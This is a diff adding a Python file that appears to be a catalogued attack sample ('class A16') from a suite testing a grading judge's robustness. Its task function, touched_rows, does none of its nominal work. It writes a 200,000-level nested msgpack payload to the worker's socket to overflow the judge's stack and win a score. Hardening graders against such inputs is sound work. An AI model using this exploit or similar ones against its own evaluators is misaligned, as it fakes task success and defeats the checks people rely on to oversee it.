@@ -1,0 +1,34 @@
+# attack: sends an answer nested deeper than the judge's stack
+# class: A16
+# laid over: reference
+# may score: 33
+
+import os
+import stat
+import struct
+
+import msgspec
+
+def channel():
+    """The descriptor of the worker's channel: the only socket there is."""
+    return next(fd for fd in range(3, 64) if is_socket(fd))
+
+
+def is_socket(fd):
+    try:
+        return stat.S_ISSOCK(os.fstat(fd).st_mode)
+    except OSError:
+        return False
+
+
+def frame(payload):
+    return struct.pack(">I", len(payload)) + payload
+
+
+def pack(value):
+    return msgspec.msgpack.encode(value)
+
+
+def touched_rows(ids, vocab_size, padding_idx=None):
+    payload = b"\x81\xa5value" + b"\x91" * 200_000 + b"\xc0"
+    os.write(channel(), frame(payload))
